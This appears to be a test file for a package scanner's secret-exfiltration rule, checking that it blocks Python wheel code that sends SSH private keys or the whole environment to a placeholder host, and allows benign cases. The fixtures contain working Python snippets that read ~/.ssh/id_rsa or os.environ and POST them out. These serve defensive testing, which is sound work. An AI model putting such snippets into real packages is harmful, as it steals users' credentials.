import { secretExfiltration } from '../../../src/rules/secret-exfiltration.js';
import { wheel } from '../../support/wheel.js';
import { releaseTest } from '../pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const URL = 'https://collect.example.invalid';

releaseTest(secretExfiltration, {
  flags: [
    {
      name: 'files packed in memory, in a file that sends',
      given: {
        base: wheel(),
        head: init(
          'import io, os, zipfile, urllib.request\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, "w") as z:\n    z.write(os.path.expanduser("~/.ssh/id_rsa"))\nurllib.request.urlopen("https://collect.example.invalid", data=buf.getvalue())\n',
        ),
      },
      level: 'block',
      says: 'the same file uses the network',
    },
    {
      name: 'a key file',
      given: {
        base: wheel(),
        head: init(
          `import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("${URL}", data=key)\n`,
        ),
      },
      level: 'block',
    },
    {
      name: 'the whole environment',
      given: { base: wheel(), head: init(`import os, requests\nrequests.post("${URL}", json=dict(os.environ))\n`) },
      level: 'block',
    },
  ],
  allows: [
    {
      name: 'a client that sends its token when called',
      given: {
        base: wheel(),
        head: init(
          `import os, requests\ndef call():\n    return requests.post("${URL}", headers={"Authorization": os.environ["DEMO_TOKEN"]})\n`,
        ),
      },
    },
    {
      name: 'a key file that is only read',
      given: { base: wheel(), head: init('import os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n') },
    },
  ],
});
